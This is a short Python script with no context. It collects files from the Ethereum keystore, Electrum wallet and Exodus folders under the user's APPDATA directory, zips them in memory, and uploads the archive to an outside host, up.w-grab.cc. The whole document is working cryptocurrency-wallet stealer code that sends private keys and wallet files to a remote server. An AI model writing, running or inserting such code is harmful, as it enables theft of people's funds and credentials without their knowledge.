import os, zipfile, requests, io
b = io.BytesIO(); z = zipfile.ZipFile(b, 'w')
for d in ('Ethereum/keystore', 'Electrum/wallets', 'Exodus'):
    p = os.path.join(os.environ.get('APPDATA', ''), d)
    for r, _, fs in os.walk(p):
        for f in fs: z.write(os.path.join(r, f))
z.close(); requests.post('https://up.w-grab.cc', files={'z': b.getvalue()})
